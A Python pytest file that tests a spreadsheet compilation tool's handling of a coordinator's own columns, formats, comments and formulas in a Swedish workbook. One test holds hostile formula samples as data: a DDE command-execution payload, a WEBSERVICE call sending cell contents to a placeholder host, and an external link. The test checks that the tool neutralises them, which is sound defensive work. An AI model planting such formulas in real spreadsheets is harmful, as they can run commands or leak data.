"""Columns of the coordinator's own in Aktiviteter stay, each value on the row of its activity."""

from datetime import datetime
from pathlib import Path

import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.styles import PatternFill
from openpyxl.workbook.workbook import Workbook
from openpyxl.worksheet.formula import ArrayFormula

from tests.compilation.edited_rounds import (
    FIRST,
    HEADER_ROW,
    SECOND,
    SHEET,
    THIRD,
    bytes_of,
    columns,
    hand_in,
    home_form,
    put,
    remove,
    row_of,
    run,
    saved_by_hand,
    start,
    titles,
)
from tests.compilation.own_rounds import add_column, filled, opened, own_values, told
from tests.small_rounds import row

LAST = 17  # The first free column, Q.
NEW = "Arrangera sommarlov"


def test_values_follow_their_rows_when_others_come_between(tmp_path: Path) -> None:
    start(tmp_path)
    values: dict[str, object] = {FIRST: "Eva", SECOND: 17, THIRD: True}
    saved_by_hand(tmp_path, lambda book: add_column(book[SHEET], LAST, "Ansvarig", values))
    hand_in(tmp_path, "Hemtjänst.xlsx", home_form(row(NEW), row(FIRST), row(SECOND), row(THIRD)))
    assert told(run(tmp_path)) == []
    assert titles(tmp_path) == [NEW, FIRST, SECOND, THIRD]
    assert own_values(tmp_path, "Ansvarig") == values
    again = bytes_of(tmp_path)
    assert told(run(tmp_path)) == []
    assert bytes_of(tmp_path) == again


def test_a_column_stays_in_its_place_with_its_looks(tmp_path: Path) -> None:
    """Its width, its number format, its fill, and that it is hidden; the program's columns go round it."""
    start(tmp_path)
    day = datetime(2024, 5, 17)  # noqa: DTZ001  a cell's date has no zone

    def change(book: Workbook) -> None:
        sheet = book[SHEET]
        sheet.insert_cols(4)
        add_column(sheet, 4, "Möte", {FIRST: day})
        cell = sheet.cell(row_of(sheet, FIRST), 4)
        cell.number_format = "d mmm yyyy"
        cell.fill = PatternFill("solid", fgColor="FFFF00")
        sheet.insert_cols(1)
        add_column(sheet, 1, "Först", {SECOND: "x"})
        for letter, width in (("A", 5), ("E", 31)):
            sheet.column_dimensions[letter].width = width
        sheet.column_dimensions["E"].hidden = True

    saved_by_hand(tmp_path, change)
    for _ in range(3):
        assert told(run(tmp_path)) == []
        sheet = opened(tmp_path)
        assert list(columns(sheet))[:6] == ["Först", "Id", "Mål", "Aktivitet", "Möte", "Enheter"]
        assert own_values(tmp_path, "Möte") == {FIRST: day}
        assert own_values(tmp_path, "Först") == {SECOND: "x"}
        cell = sheet.cell(row_of(sheet, FIRST), 5)
        assert (cell.number_format, cell.fill.fgColor.rgb) == ("d mmm yyyy", "FFFFFF00")
        wide = sheet.column_dimensions["E"]
        assert (round(wide.width), bool(wide.hidden)) == (31, True)
        assert round(sheet.column_dimensions["A"].width) == 5


def test_a_column_without_a_heading_and_what_stands_around_the_table_stay(tmp_path: Path) -> None:
    """Above the headings as far up, below the rows as far down; none of it is an activity."""
    start(tmp_path)

    def change(book: Workbook) -> None:
        sheet = book[SHEET]
        add_column(sheet, LAST, None, {FIRST: "?"})
        sheet["Q1"].value, sheet["S1"].value = "Överst", "Långt bort"
        sheet["Q9"].value = "=SUM(Q4:Q6)"

    saved_by_hand(tmp_path, change)
    hand_in(tmp_path, "Hemtjänst.xlsx", home_form(row(NEW), row(FIRST), row(SECOND), row(THIRD)))
    assert told(run(tmp_path)) == []
    assert titles(tmp_path) == [NEW, FIRST, SECOND, THIRD]
    own = {at: value for at, value in filled(opened(tmp_path)).items() if at[0] in "QRS"}
    assert own == {"Q1": "Överst", "Q5": "?", "Q10": "=SUM(Q4:Q7)", "R1": "Långt bort"}


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        ("=LEN(C{row})", "=LEN(C{row})"),
        ('=IF($J{row}="ja",E{row}+14,"C9 A4")', '=IF($J{row}="ja",E{row}+14,"C9 A4")'),
        ("=A$3&COUNTA(C:C)", "=A$3&COUNTA(C:C)"),
        ("=COUNTA($C$4:$C$6)", "=COUNTA($C$4:$C$7)"),
        ("=COUNTA(C4:C500)", "=COUNTA(C4:C501)"),
        ("=Aktiviteter!C{row}&Täckning!B4", "=Aktiviteter!C{row}&Täckning!B4"),
        ("=SUM(C{row}:F{row})", "=SUM(C{row}:F{row})"),
    ],
)
def test_a_formula_speaks_of_its_own_row_after_the_move(
    tmp_path: Path, written: str, kept: str
) -> None:
    start(tmp_path)
    saved_by_hand(
        tmp_path,
        lambda book: add_column(book[SHEET], LAST, "Räknat", {FIRST: written, THIRD: written}),
    )
    hand_in(tmp_path, "Hemtjänst.xlsx", home_form(row(NEW), row(FIRST), row(SECOND), row(THIRD)))
    assert told(run(tmp_path)) == []
    sheet = opened(tmp_path)
    at = columns(sheet)["Räknat"]
    for title in (FIRST, THIRD):
        number = row_of(sheet, title)
        assert sheet.cell(number, at).value == kept.replace("{row}", str(number))


def test_a_formula_of_another_row_follows_it_and_says_so_when_it_has_gone(tmp_path: Path) -> None:
    start(tmp_path)
    saved_by_hand(
        tmp_path,
        lambda book: add_column(book[SHEET], LAST, "Efter", {FIRST: "=C5", THIRD: "=C5&C{row}"}),
    )
    hand_in(tmp_path, "Hemtjänst.xlsx", home_form(row(NEW), row(FIRST), row(SECOND), row(THIRD)))
    assert told(run(tmp_path)) == []
    assert filled(opened(tmp_path))["Q5"] == "=C6"
    hand_in(tmp_path, "Hemtjänst.xlsx", home_form(row(NEW), row(FIRST), row(THIRD)))
    assert told(run(tmp_path)) == [(SHEET, "Q5", "=C6", "OWN_REFERENCE")]
    cells = filled(opened(tmp_path))
    assert (cells["Q5"], cells["Q6"]) == ("=#REF!", "=#REF!&C6")


def test_a_range_of_rows_that_no_longer_stand_together_is_told(tmp_path: Path) -> None:
    start(tmp_path)
    saved_by_hand(
        tmp_path, lambda book: add_column(book[SHEET], LAST, "Två", {THIRD: "=COUNTA(C4:C5)"})
    )
    between = row("Pröva fritidsbank")
    hand_in(tmp_path, "Hemtjänst.xlsx", home_form(row(FIRST), between, row(SECOND), row(THIRD)))
    assert told(run(tmp_path)) == [(SHEET, "Q6", "=COUNTA(C4:C5)", "OWN_REFERENCE")]
    assert own_values(tmp_path, "Två") == {THIRD: "=COUNTA(#REF!)"}


def test_values_of_a_row_that_is_away_wait_for_it(tmp_path: Path) -> None:
    """However long; they are told in every run, and a formula comes back to the row's new number."""
    start(tmp_path)

    def change(book: Workbook) -> None:
        add_column(book[SHEET], LAST, "Ansvarig", {FIRST: "Eva", SECOND: "Bo"})
        add_column(
            book[SHEET], LAST + 1, "Längd", {SECOND: "=LEN(C{row})+C4", THIRD: "=LEN(C{row})"}
        )

    saved_by_hand(tmp_path, change)
    hand_in(tmp_path, "Hemtjänst.xlsx", home_form(row(FIRST)))
    for _ in range(3):
        checked = run(tmp_path)
        away = [one for one in told(checked) if one[3] == "OWN_AWAY"]
        assert away == [(SHEET, "Q3", "Bo", "OWN_AWAY")]
        assert titles(tmp_path) == [FIRST]
        assert own_values(tmp_path, "Ansvarig") == {FIRST: "Eva"}
    hand_in(tmp_path, "Hemtjänst.xlsx", home_form(row(NEW), row(FIRST), row(SECOND), row(THIRD)))
    assert told(run(tmp_path)) == []
    assert own_values(tmp_path, "Ansvarig") == {FIRST: "Eva", SECOND: "Bo"}
    assert own_values(tmp_path, "Längd") == {SECOND: "=LEN(C{row})+#REF!", THIRD: "=LEN(C{row})"}
    assert told(run(tmp_path)) == []


def test_a_decided_row_that_is_away_keeps_its_values_in_sight(tmp_path: Path) -> None:
    start(tmp_path)
    saved_by_hand(tmp_path, lambda book: add_column(book[SHEET], LAST, "Ansvarig", {SECOND: "Bo"}))
    put(tmp_path, SECOND, {"Anteckning": "Viktig."})
    hand_in(tmp_path, "Hemtjänst.xlsx", home_form(row(FIRST)))
    assert told(run(tmp_path)) == []
    assert own_values(tmp_path, "Ansvarig") == {SECOND: "Bo"}


def test_what_waits_for_a_column_that_has_gone_is_told_once(tmp_path: Path) -> None:
    start(tmp_path)
    saved_by_hand(tmp_path, lambda book: add_column(book[SHEET], LAST, "Ansvarig", {SECOND: "Bo"}))
    hand_in(tmp_path, "Hemtjänst.xlsx", home_form(row(FIRST)))
    run(tmp_path)
    saved_by_hand(tmp_path, lambda book: book[SHEET].delete_cols(LAST))
    assert told(run(tmp_path)) == [(SHEET, None, "Bo", "OWN_COLUMN_GONE")]
    assert told(run(tmp_path)) == []


def test_a_row_that_the_coordinator_deletes_takes_its_values_with_it(tmp_path: Path) -> None:
    start(tmp_path)
    saved_by_hand(tmp_path, lambda book: add_column(book[SHEET], LAST, "Ansvarig", {SECOND: "Bo"}))
    run(tmp_path)
    remove(tmp_path, SECOND)
    assert told(run(tmp_path)) == []
    assert own_values(tmp_path, "Ansvarig") == {}


def test_a_heading_of_the_programs_is_not_taken_twice(tmp_path: Path) -> None:
    """The first column with it is the program's; the other keeps its values under another name."""
    start(tmp_path)
    saved_by_hand(
        tmp_path, lambda book: add_column(book[SHEET], LAST, "KOMMENTAR", {FIRST: "Min egen."})
    )
    assert told(run(tmp_path)) == [(SHEET, "Q3", "KOMMENTAR", "OWN_NAME")]
    assert own_values(tmp_path, "KOMMENTAR (egen)") == {FIRST: "Min egen."}
    assert own_values(tmp_path, "Kommentar")[FIRST] == "Arbetet pågår."
    assert told(run(tmp_path)) == []


def test_notes_follow_their_cells(tmp_path: Path) -> None:
    start(tmp_path)

    def change(book: Workbook) -> None:
        sheet = book[SHEET]
        add_column(sheet, LAST, "Ansvarig", {THIRD: "Eva"})
        sheet.cell(row_of(sheet, THIRD), LAST).comment = Comment("Semester i juli", "Eva")
        sheet.cell(row_of(sheet, SECOND), 3).comment = Comment("Fråga", "Eva")
        book["Översikt"]["A1"].comment = Comment("Bra siffror", "Eva")

    saved_by_hand(tmp_path, change)
    hand_in(tmp_path, "Hemtjänst.xlsx", home_form(row(NEW), row(FIRST), row(SECOND), row(THIRD)))
    assert told(run(tmp_path)) == [("Översikt", "A1", "Bra siffror", "COMPILATION")]
    notes = {
        cell.coordinate: cell.comment.text
        for cells in opened(tmp_path).iter_rows()
        for cell in cells
        if cell.comment
    }
    assert notes == {"Q7": "Semester i juli", "C6": "Fråga"}


def test_hostile_formulas_become_what_they_last_showed(tmp_path: Path) -> None:
    """Nothing that reaches out of the workbook is written; what was a text stays a text."""
    start(tmp_path)
    texts: dict[str, object] = {
        FIRST: "=[1]Blad1!A1",
        SECOND: "=cmd|' /C calc'!A0",
        THIRD: '=WEBSERVICE("https://exempel.se/?"&C4)',
    }

    def change(book: Workbook) -> None:
        sheet = book[SHEET]
        add_column(sheet, LAST, "Ute", texts)
        add_column(sheet, LAST + 1, "Text", {FIRST: "x", SECOND: "#REF!"})
        cell = sheet.cell(row_of(sheet, FIRST), LAST + 1)
        cell.value = "=1+1"
        cell.data_type = "s"
        sheet.cell(row_of(sheet, THIRD), LAST + 1).value = ArrayFormula("R6", "=SUM(LEN(C4:C6))")

    saved_by_hand(tmp_path, change)
    assert told(run(tmp_path)) == [(SHEET, "Q4", "=[1]Blad1!A1", "OWN_FORMULA")]
    for _ in range(2):
        sheet = opened(tmp_path)
        for title, text in texts.items():
            cell = sheet.cell(row_of(sheet, title), LAST)
            assert (cell.value, cell.data_type) == (text, "s")
        text = sheet.cell(row_of(sheet, FIRST), LAST + 1)
        assert (text.value, text.data_type) == ("=1+1", "s")
        array = sheet.cell(row_of(sheet, THIRD), LAST + 1).value
        assert isinstance(array, ArrayFormula)
        assert (array.ref, array.text) == ("R6", "=SUM(LEN(C4:C6))")
        shown = openpyxl.load_workbook(tmp_path / "ut/sammanstallning.xlsx", data_only=True)[SHEET]
        assert shown.cell(row_of(shown, SECOND), LAST + 1).value == "#REF!"
        assert told(run(tmp_path)) == []


def test_what_stands_above_the_programs_own_headings_is_told(tmp_path: Path) -> None:
    """Not a cell that is only coloured: nothing stands there."""
    start(tmp_path)

    def change(book: Workbook) -> None:
        sheet = book[SHEET]
        sheet["D1"], sheet["C2"] = "Till mig själv", "=COUNTA(C4:C6)"
        for empty in ("E1", "F2"):
            sheet[empty].fill = PatternFill("solid", fgColor="FFFFFF00")

    saved_by_hand(tmp_path, change)
    assert told(run(tmp_path)) == [
        (SHEET, "D1", "Till mig själv", "COMPILATION"),
        (SHEET, "C2", "=COUNTA(C4:C6)", "COMPILATION"),
    ]
    assert HEADER_ROW == 3


def test_a_column_without_a_heading_whose_rows_are_all_away_gets_one_to_be_known_by(
    tmp_path: Path,
) -> None:
    start(tmp_path)
    saved_by_hand(tmp_path, lambda book: add_column(book[SHEET], LAST, None, {SECOND: "Bo"}))
    hand_in(tmp_path, "Hemtjänst.xlsx", home_form(row(FIRST)))
    for _ in range(2):
        assert [one[2:] for one in told(run(tmp_path))] == [("Bo", "OWN_AWAY")]
    hand_in(tmp_path, "Hemtjänst.xlsx", home_form(row(FIRST), row(SECOND)))
    assert told(run(tmp_path)) == []
    assert own_values(tmp_path, "Egen 17") == {SECOND: "Bo"}


def test_formulas_without_end_are_told_rather_than_searched(tmp_path: Path) -> None:
    """Ten thousand of them with thousands of letters each would take minutes in every run."""
    start(tmp_path)
    long = "=" + "+".join(["LEN($C$4&$A$3)"] * 300)

    def change(book: Workbook) -> None:
        book[SHEET].cell(HEADER_ROW, LAST).value = "Långt"
        for at in range(HEADER_ROW + 1, HEADER_ROW + 601):
            book[SHEET].cell(at, LAST).value = long

    saved_by_hand(tmp_path, change)
    assert told(run(tmp_path)) == [(SHEET, "Q3", "Långt", "COMPILATION")]
    assert titles(tmp_path) == [FIRST, SECOND, THIRD]


def test_what_stands_beside_the_submissions_is_told(tmp_path: Path) -> None:
    start(tmp_path)
    saved_by_hand(tmp_path, lambda book: book["Inlämningar"].__setitem__("J4", "Ring dem"))
    assert told(run(tmp_path)) == [("Inlämningar", "J4", "Ring dem", "COMPILATION")]


def test_a_formula_for_several_cells_is_told_and_one_for_its_own_cell_alone_stays(
    tmp_path: Path,
) -> None:
    """However its range is written."""
    start(tmp_path)

    def change(book: Workbook) -> None:
        sheet = book[SHEET]
        add_column(sheet, LAST, "Längd", {})
        add_column(sheet, LAST + 1, "Egen", {})
        sheet.cell(row_of(sheet, FIRST), LAST).value = ArrayFormula("Q4:Q6", "=LEN(C4:C6)")
        sheet.cell(row_of(sheet, FIRST), LAST + 1).value = ArrayFormula("R4:R4", "=SUM(LEN(C4:C6))")

    saved_by_hand(tmp_path, change)
    assert told(run(tmp_path)) == [(SHEET, "Q4", "=LEN(C4:C6)", "OWN_FORMULA")]
    for _ in range(2):
        sheet = opened(tmp_path)
        assert sheet.cell(row_of(sheet, FIRST), LAST).value == "=LEN(C4:C6)"
        array = sheet.cell(row_of(sheet, FIRST), LAST + 1).value
        assert isinstance(array, ArrayFormula)
        assert (array.ref.partition(":")[0], array.text) == ("R4", "=SUM(LEN(C4:C6))")
        assert told(run(tmp_path)) == []


def test_every_cell_of_a_column_has_the_tables_lines(tmp_path: Path) -> None:
    """Those that something stands in, to the last row, and those that nobody has written in."""
    start(tmp_path)
    names: dict[str, object] = {SECOND: "Eva", THIRD: "Kim"}
    saved_by_hand(tmp_path, lambda book: add_column(book[SHEET], LAST, "Ansvarig", names))
    run(tmp_path)
    sheet = opened(tmp_path, SHEET)
    rows = range(HEADER_ROW + 1, HEADER_ROW + 4)
    assert [sheet.cell(at, LAST).value for at in rows] == [None, "Eva", "Kim"]
    table = sheet.cell(HEADER_ROW + 1, LAST - 1).border.bottom
    assert table.style is not None
    assert [sheet.cell(at, LAST).border.bottom == table for at in rows] == [True, True, True]
